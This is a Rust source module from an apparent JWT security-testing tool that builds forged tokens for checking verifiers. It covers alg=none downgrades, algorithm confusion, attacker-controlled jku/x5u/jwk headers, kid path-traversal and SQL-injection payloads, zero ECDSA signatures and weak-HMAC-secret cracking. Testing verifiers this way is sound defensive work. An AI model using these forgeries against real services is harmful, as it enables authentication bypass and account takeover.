//! The forgery toolkit: builds the JWTs a correct verifier must refuse. Danger is in the name —
//! nothing here verifies anything, and every token it returns is meant to be rejected.
//!
//! Owns: one constructor per [`ForgeryKind`] ([`forge`]), the primitives behind them
//! ([`modify_claims`], [`resign`]), the attacker's key pair ([`AttackerKey`]) and offline
//! HMAC secret guessing ([`crack_hmac`] over [`WEAK_SECRETS`]). Kinds are named in Wycheproof's
//! vocabulary (`ModifiedPayload`, `MissingSignature`, `NoneAlgorithm`, …).
//!
//! Must not: do network I/O (it only builds tokens: the caller sends them, and serves the
//! attacker JWKS for `jku`/`x5u`), decide verdicts, or print. It works on the compact token
//! text directly and does not use the crate's decoder.
//!
//! Header member order is kept: headers are rewritten member by member in document order
//! (serde_json's map would sort them), so a forged header differs from the original only in
//! the members the forgery is about. Nested values (e.g. an embedded `jwk`) are written with
//! sorted members.

mod sign;
mod token;

#[cfg(test)]
mod tests;

use serde_json::{Map, Value, json};

pub use sign::{ATTACKER_KID, AttackerKey, SigningKey, crack_hmac};
use sign::{hmac_sign, sign_compact};
use token::{Compact, Ordered, b64};

use crate::jwt::keys::{self, Curve};

/// About 200 HMAC secrets seen in tutorials, samples and leaked configs, one per line (for
/// [`crack_hmac`]; iterate with [`weak_secrets`]).
pub const WEAK_SECRETS: &str = include_str!("weak-secrets.txt");

/// The non-empty lines of [`WEAK_SECRETS`].
pub fn weak_secrets() -> impl Iterator<Item = &'static str> {
    WEAK_SECRETS.lines().filter(|l| !l.is_empty())
}

/// The kinds of forged token, in Wycheproof's vocabulary. Each names what was done to a
/// valid token; a correct verifier refuses every one.
#[derive(
    Debug,
    Clone,
    Copy,
    PartialEq,
    Eq,
    Hash,
    serde::Serialize,
    serde::Deserialize,
    schemars::JsonSchema,
)]
#[serde(rename_all = "snake_case")]
pub enum ForgeryKind {
    /// `alg` set to `none` in four spellings, signature removed (with and without the
    /// trailing dot): the unsecured-JWS downgrade (RFC 7518 §3.6).
    NoneAlgorithm,
    /// `header.payload` with no signature segment at all.
    MissingSignature,
    /// `header.payload.` with an empty signature segment.
    EmptySignature,
    /// The original signature shortened (last byte removed; half its bytes): a verifier that
    /// compares only a prefix accepts it.
    TruncatedSignature,
    /// A valid signature taken from another token, over this token's header and payload.
    ForeignSignature,
    /// The payload changed (a claim, or only whitespace) under the original signature.
    ModifiedPayload,
    /// The header changed (an extra member) under the original signature.
    ModifiedHeader,
    /// Algorithm confusion: an asymmetric token re-signed as `HS256`/`HS384`/`HS512` with the
    /// service's *public* key (in several serialisations) as the HMAC secret.
    SymmetryConfusion,
    /// A header `jwk` carrying the attacker's public key, signed by the attacker (RFC 7515
    /// §4.1.3 trusted blindly).
    AttackerProvidedEmbeddedJwk,
    /// A header `jku` pointing at the attacker's JWKS, signed by the attacker.
    AttackerProvidedJku,
    /// A header `x5u` pointing at the attacker's key, signed by the attacker. Partial check:
    /// `x5u` should name an X.509 chain, but we point it at the attacker JWKS URL.
    AttackerProvidedX5u,
    /// `HS256` with a `kid` that walks to `/dev/null`, signed with an empty key: a verifier
    /// that reads the key from a file named by `kid` uses the empty file.
    KidPathTraversal,
    /// `HS256` with a `kid` that injects SQL selecting the literal `authprobe`, signed with
    /// the key `authprobe`.
    KidSqlInjection,
    /// ECDSA signature with `r = s = 0` (CVE-2022-21449, "psychic signatures").
    PsychicSignature,
}

impl ForgeryKind {
    /// Every kind, in declaration order.
    pub const ALL: [ForgeryKind; 14] = [
        ForgeryKind::NoneAlgorithm,
        ForgeryKind::MissingSignature,
        ForgeryKind::EmptySignature,
        ForgeryKind::TruncatedSignature,
        ForgeryKind::ForeignSignature,
        ForgeryKind::ModifiedPayload,
        ForgeryKind::ModifiedHeader,
        ForgeryKind::SymmetryConfusion,
        ForgeryKind::AttackerProvidedEmbeddedJwk,
        ForgeryKind::AttackerProvidedJku,
        ForgeryKind::AttackerProvidedX5u,
        ForgeryKind::KidPathTraversal,
        ForgeryKind::KidSqlInjection,
        ForgeryKind::PsychicSignature,
    ];
}

/// What the forgeries may draw on besides the original token.
#[derive(Debug, Clone, Copy)]
pub struct ForgeContext<'a> {
    /// The service's public keys (for [`ForgeryKind::SymmetryConfusion`]).
    pub public_keys: &'a [keys::Jwk],
    /// Another valid token of the same service (for [`ForgeryKind::ForeignSignature`]).
    pub other_token: Option<&'a str>,
    /// Where the caller serves [`AttackerKey::jwks_json`] (for `jku`/`x5u`); `None` and those
    /// forgeries yield nothing.
    pub attacker_jwks_url: Option<&'a url::Url>,
    /// The attacker's key pair.
    pub attacker: &'a AttackerKey,
}

/// One forged token.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Forged {
    /// What kind of forgery.
    pub kind: ForgeryKind,
    /// Which variant of it, for people: e.g. `"alg=nOnE, trailing dot"`.
    pub variant: String,
    /// The token to send.
    pub token: String,
}

/// An error building forgeries: the original (or another input) is not a usable token, or a
/// key is unusable. Keeps the offending input, truncated to 200 characters.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{kind} (input: {input:?})")]
pub struct ForgeError {
    /// What went wrong.
    pub kind: ForgeErrorKind,
    /// The input that caused it.
    pub input: String,
}

impl ForgeError {
    pub(crate) fn new(kind: ForgeErrorKind, input: &str) -> ForgeError {
        ForgeError {
            kind,
            input: input.chars().take(200).collect(),
        }
    }
}

/// The kinds of [`ForgeError`].
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum ForgeErrorKind {
    /// The token does not have exactly three `.`-separated segments.
    #[error("token does not have three segments")]
    NotThreeSegments,
    /// A segment is not base64url.
    #[error("{segment} is not base64url")]
    InvalidBase64 {
        /// `header`, `payload` or `signature`.
        segment: &'static str,
    },
    /// A segment does not decode to a JSON object.
    #[error("{segment} is not a json object")]
    NotAJsonObject {
        /// `header` or `payload`.
        segment: &'static str,
    },
    /// The key cannot be read or used.
    #[error("invalid key")]
    InvalidKey,
    /// The key cannot sign with the requested algorithm (or the algorithm is unknown).
    #[error("key cannot sign {alg}")]
    KeyAlgorithmMismatch {
        /// The requested `alg`.
        alg: String,
    },
}

/// Builds every variant of `kind` from `original`. An empty vector means the kind does not
/// apply (e.g. `SymmetryConfusion` without public keys, `AttackerProvidedJku` without a URL).
/// Every returned token differs from `original`, and no token is returned twice.
pub fn forge(
    kind: ForgeryKind,
    original: &str,
    ctx: &ForgeContext,
) -> Result<Vec<Forged>, ForgeError> {
    let c = Compact::parse(original)?;
    let mut out: Vec<(String, String)> = Vec::new();
    match kind {
        ForgeryKind::NoneAlgorithm => {
            for none in ["none", "None", "NONE", "nOnE"] {
                let h = with(&c.header, &[("alg", json!(none))]).to_b64();
                out.push((
                    format!("alg={none}, trailing dot"),
                    format!("{h}.{}.", c.payload_b64),
                ));
                out.push((
                    format!("alg={none}, no trailing dot"),
                    format!("{h}.{}", c.payload_b64),
                ));
            }
        }
        ForgeryKind::MissingSignature => {
            out.push(("no signature segment".into(), c.signing_input()));
        }
        ForgeryKind::EmptySignature => {
            out.push((
                "empty signature segment".into(),
                format!("{}.", c.signing_input()),
            ));
        }
        ForgeryKind::TruncatedSignature => {
            let s = c.signature(original)?;
            if !s.is_empty() {
                let last = &s[..s.len() - 1];
                let half = &s[..s.len() / 2];
                out.push((
                    "last byte removed".into(),
                    format!("{}.{}", c.signing_input(), b64(last)),
                ));
                out.push((
                    "half the bytes".into(),
                    format!("{}.{}", c.signing_input(), b64(half)),
                ));
            }
        }
        ForgeryKind::ForeignSignature => {
            if let Some(other) = ctx.other_token {
                let o = Compact::parse(other)?;
                out.push((
                    "signature of the other token".into(),
                    format!("{}.{}", c.signing_input(), o.signature_b64),
                ));
            }
        }
        ForgeryKind::ModifiedPayload => {
            let payload = c.payload(original)?;
            let changed = if payload.get("sub").is_some() {
                "sub changed to \"authprobe-attacker\", original signature"
            } else {
                "claim authprobe=1 added, original signature"
            };
            let t = modify_claims(original, |m| {
                if m.contains_key("sub") {
                    m.insert("sub".into(), json!("authprobe-attacker"));
                } else {
                    m.insert("authprobe".into(), json!(1));
                }
            })?;
            out.push((changed.into(), t));
            let mut raw = token::unb64(c.payload_b64).unwrap_or_default();
            raw.push(b' ');
            out.push((
                "payload JSON with a trailing space, original signature".into(),
                format!("{}.{}.{}", c.header_b64, b64(&raw), c.signature_b64),
            ));
        }
        ForgeryKind::ModifiedHeader => {
            let h = with(&c.header, &[("authprobe", json!(1))]).to_b64();
            out.push((
                "header member authprobe=1 added, original signature".into(),
                format!("{h}.{}.{}", c.payload_b64, c.signature_b64),
            ));
        }
        ForgeryKind::SymmetryConfusion => symmetry_confusion(&c, ctx, &mut out),
        ForgeryKind::AttackerProvidedEmbeddedJwk => {
            let h = with(
                &c.header,
                &[
                    ("alg", json!("ES256")),
                    ("jwk", ctx.attacker.public_jwk().key.to_jwk_json()),
                ],
            );
            let t = sign_compact(
                "ES256",
                &h.to_b64(),
                c.payload_b64,
                &ctx.attacker.signing_key(),
            )?;
            out.push(("ES256, attacker public key in header jwk".into(), t));
        }
        ForgeryKind::AttackerProvidedJku | ForgeryKind::AttackerProvidedX5u => {
            if let Some(url) = ctx.attacker_jwks_url {
                let member = if kind == ForgeryKind::AttackerProvidedJku {
                    "jku"
                } else {
                    "x5u"
                };
                let h = with(
                    &c.header,
                    &[
                        ("alg", json!("ES256")),
                        (member, json!(url.as_str())),
                        ("kid", json!(ATTACKER_KID)),
                    ],
                );
                let t = sign_compact(
                    "ES256",
                    &h.to_b64(),
                    c.payload_b64,
                    &ctx.attacker.signing_key(),
                )?;
                out.push((format!("ES256, {member} points at the attacker JWKS"), t));
            }
        }
        ForgeryKind::KidPathTraversal => {
            for kid in [
                "../../../../../../../../dev/null",
                "/dev/null",
                "....//....//dev/null",
            ] {
                let t = hs256_with_kid(&c, kid, b"")?;
                out.push((format!("HS256 with an empty key, kid={kid}"), t));
            }
        }
        ForgeryKind::KidSqlInjection => {
            let kid = "x' UNION SELECT 'authprobe'-- ";
            let t = hs256_with_kid(&c, kid, b"authprobe")?;
            out.push((format!("HS256 with key \"authprobe\", kid={kid}"), t));
        }
        ForgeryKind::PsychicSignature => {
            let curves: &[Curve] = match c.alg() {
                Some("ES256") => &[Curve::P256],
                Some("ES384") => &[Curve::P384],
                Some("ES512") => &[Curve::P521],
                _ => &[Curve::P256, Curve::P384, Curve::P521],
            };
            for curve in curves {
                let alg = curve.jws_alg();
                let zeros = vec![0u8; 2 * curve.coordinate_len()];
                let h = with(&c.header, &[("alg", json!(alg))]).to_b64();
                out.push((
                    format!("{alg} with r = s = 0 ({} zero bytes)", zeros.len()),
                    format!("{h}.{}.{}", c.payload_b64, b64(&zeros)),
                ));
            }
        }
    }
    let mut seen = std::collections::HashSet::new();
    Ok(out
        .into_iter()
        .filter(|(_, t)| t != original && seen.insert(t.clone()))
        .map(|(variant, token)| Forged {
            kind,
            variant,
            token,
        })
        .collect())
}

/// A copy of `header` with the given members set (replaced in place, or appended).
fn with(header: &Ordered, members: &[(&str, Value)]) -> Ordered {
    let mut h = header.clone();
    for (k, v) in members {
        h.set(k, v.clone());
    }
    h
}

fn hs256_with_kid(c: &Compact<'_>, kid: &str, key: &[u8]) -> Result<String, ForgeError> {
    let h = with(&c.header, &[("alg", json!("HS256")), ("kid", json!(kid))]);
    sign_compact(
        "HS256",
        &h.to_b64(),
        c.payload_b64,
        &SigningKey::Hmac(key.to_vec()),
    )
}

fn symmetry_confusion(c: &Compact<'_>, ctx: &ForgeContext, out: &mut Vec<(String, String)>) {
    let asymmetric = c
        .alg()
        .is_some_and(|a| a == "EdDSA" || ["RS", "PS", "ES"].iter().any(|p| a.starts_with(p)));
    if !asymmetric || ctx.public_keys.is_empty() {
        return;
    }
    let kid = c.header.get_str("kid");
    let matching: Vec<&keys::Jwk> = ctx
        .public_keys
        .iter()
        .filter(|k| kid.is_some() && k.kid.as_deref() == kid)
        .collect();
    let chosen: Vec<&keys::Jwk> = if matching.is_empty() {
        ctx.public_keys.iter().collect()
    } else {
        matching
    };
    let several = chosen.len() > 1;
    for (i, key) in chosen.iter().enumerate() {
        let which = match (&key.kid, several) {
            (_, false) => String::new(),
            (Some(kid), true) => format!(" (key kid={kid})"),
            (None, true) => format!(" (key #{i})"),
        };
        for (label, secret) in key.key.to_pem_variants() {
            let algs: &[(&str, aws_lc_rs::hmac::Algorithm)] = if label == "SPKI PEM" {
                &[
                    ("HS256", aws_lc_rs::hmac::HMAC_SHA256),
                    ("HS384", aws_lc_rs::hmac::HMAC_SHA384),
                    ("HS512", aws_lc_rs::hmac::HMAC_SHA512),
                ]
            } else {
                &[("HS256", aws_lc_rs::hmac::HMAC_SHA256)]
            };
            for (alg, hmac) in algs {
                let h = with(&c.header, &[("alg", json!(alg))]).to_b64();
                let input = format!("{h}.{}", c.payload_b64);
                let s = hmac_sign(*hmac, &secret, input.as_bytes());
                out.push((
                    format!("{alg} keyed with {label}{which}"),
                    format!("{input}.{}", b64(&s)),
                ));
            }
        }
    }
}

/// ModifiedPayload primitive: `original` with its claims edited by `edit`, the original header
/// and signature segments kept byte for byte. Claim order is kept; new claims are appended.
pub fn modify_claims(
    original: &str,
    edit: impl FnOnce(&mut Map<String, Value>),
) -> Result<String, ForgeError> {
    let c = Compact::parse(original)?;
    let payload = c.payload(original)?;
    let mut map = payload.to_map();
    edit(&mut map);
    let p = payload.reordered(map).to_b64();
    Ok(format!("{}.{p}.{}", c.header_b64, c.signature_b64))
}

/// White-box mode: a token with `header` and `claims`, properly signed with the service's real
/// key. The header's `alg` is used (and must suit the key); if absent, [`SigningKey::alg`] is
/// inserted. Members are written in sorted order.
pub fn resign(
    header: &Map<String, Value>,
    claims: &Map<String, Value>,
    key: &SigningKey,
) -> Result<String, ForgeError> {
    let mut header = header.clone();
    let alg = match header.get("alg") {
        Some(Value::String(a)) => a.clone(),
        Some(other) => {
            return Err(ForgeError::new(
                ForgeErrorKind::KeyAlgorithmMismatch {
                    alg: other.to_string(),
                },
                &other.to_string(),
            ));
        }
        None => {
            let a = key.alg()?.to_owned();
            header.insert("alg".into(), Value::String(a.clone()));
            a
        }
    };
    let h = b64(Value::Object(header).to_string().as_bytes());
    let p = b64(Value::Object(claims.clone()).to_string().as_bytes());
    sign_compact(&alg, &h, &p, key)
}
